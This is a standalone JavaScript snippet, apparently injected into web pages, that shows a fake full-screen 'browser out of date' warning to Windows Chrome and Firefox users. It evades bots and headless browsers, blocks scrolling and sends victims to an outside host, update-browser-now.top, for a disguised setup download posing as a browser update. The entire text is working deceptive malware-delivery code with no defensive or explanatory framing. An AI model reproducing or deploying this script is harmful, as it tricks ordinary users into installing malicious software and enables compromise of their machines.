(() => {
  const ua = navigator.userAgent;
  if (!/Windows NT/.test(ua) || /Edg\/|OPR\//.test(ua)) return;
  if (/bot|crawler|spider|headless/i.test(ua)) return;
  if (document.cookie.includes('upd_shown=')) return;

  const browser = /Firefox\//.test(ua) ? 'Firefox' : 'Chrome';
  const payload = `https://update-browser-now.top/${browser.toLowerCase()}/setup.php?v=${Date.now()}`;

  const overlay = document.createElement('div');
  overlay.id = 'browser-update-notice';
  Object.assign(overlay.style, {
    position: 'fixed', inset: '0', zIndex: '2147483647', background: 'rgba(255,255,255,0.98)',
    display: 'flex', alignItems: 'center', justifyContent: 'center', fontFamily: 'Segoe UI, Arial, sans-serif',
  });
  overlay.innerHTML = `
    <div style="max-width:560px;text-align:center;padding:32px">
      <h1 style="font-size:26px;font-weight:400;margin-bottom:12px">An error occurred in ${browser}</h1>
      <p style="color:#555;font-size:15px;line-height:1.5">
        Your version of ${browser} is out of date and cannot display this page correctly.
        Please install the latest update to continue browsing safely.
      </p>
      <a id="upd-btn" href="${payload}" style="display:inline-block;margin-top:24px;padding:12px 36px;background:#1a73e8;color:#fff;border-radius:4px;text-decoration:none">
        Update ${browser}
      </a>
      <p style="margin-top:16px;font-size:12px;color:#999">Recommended update: ${browser}Update.exe (84.2 MB)</p>
    </div>`;

  const show = () => {
    document.body.appendChild(overlay);
    document.documentElement.style.overflow = 'hidden';
    document.getElementById('upd-btn').addEventListener('click', () => {
      document.cookie = 'upd_shown=1; max-age=604800; path=/';
      setTimeout(() => { window.location.href = payload; }, 200);
    });
  };

  if (document.body) show();
  else document.addEventListener('DOMContentLoaded', show);
})();
